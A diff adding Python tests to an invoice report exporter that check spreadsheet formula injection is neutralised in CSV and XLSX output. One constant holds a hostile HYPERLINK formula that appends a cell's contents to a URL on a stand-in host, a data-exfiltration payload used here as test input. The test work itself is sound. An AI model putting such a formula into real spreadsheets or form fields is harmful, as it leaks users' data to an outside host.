@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import io
+import zipfile
 from decimal import Decimal
 
 from openpyxl import load_workbook
@@ -47,3 +49,33 @@ def test_xlsx_money_cells_are_numbers_shown_with_two_decimals():
     assert Decimal(str(due.value)) == Decimal("-700") and due.number_format == "0.00"
     assert sheet.cell(row=sheet.max_row, column=1).value == "合计"
     assert [r[0].value for r in book["汇总"].iter_rows(min_row=2)] == ["保育费", "家庭应付", "红字发票（退费）"]
+
+
+HOSTILE_NAME = '=HYPERLINK("http://x.example/?a="&C2,"click")'
+
+
+def _with_facility(name: str) -> dict:
+    report = {**REPORT, "invoices": [{**REPORT["invoices"][0], "facility": name}]}
+    return report
+
+
+def test_a_csv_cell_that_would_start_a_formula_is_written_as_text():
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        text = to_csv(month_table(_with_facility(start + "1+1"))).decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        assert rows[1][3] == "'" + start + "1+1"
+
+
+def test_negative_amounts_stay_numbers_in_csv():
+    rows = list(csv.reader(io.StringIO(to_csv(month_table(REPORT)).decode("utf-8-sig"), newline="")))
+    credit_note = rows[3]
+    assert credit_note[9:12] == ["-1000.00", "-300.00", "-700.00"]
+
+
+def test_an_xlsx_cell_that_would_start_a_formula_is_stored_as_a_string_not_a_formula():
+    data = to_xlsx(month_table(_with_facility(HOSTILE_NAME)))
+    with zipfile.ZipFile(io.BytesIO(data)) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet, "the name must be stored as a string, not a formula"
+    cell = load_workbook(io.BytesIO(data)).active["D3"]
+    assert cell.value == HOSTILE_NAME and cell.data_type == "s"
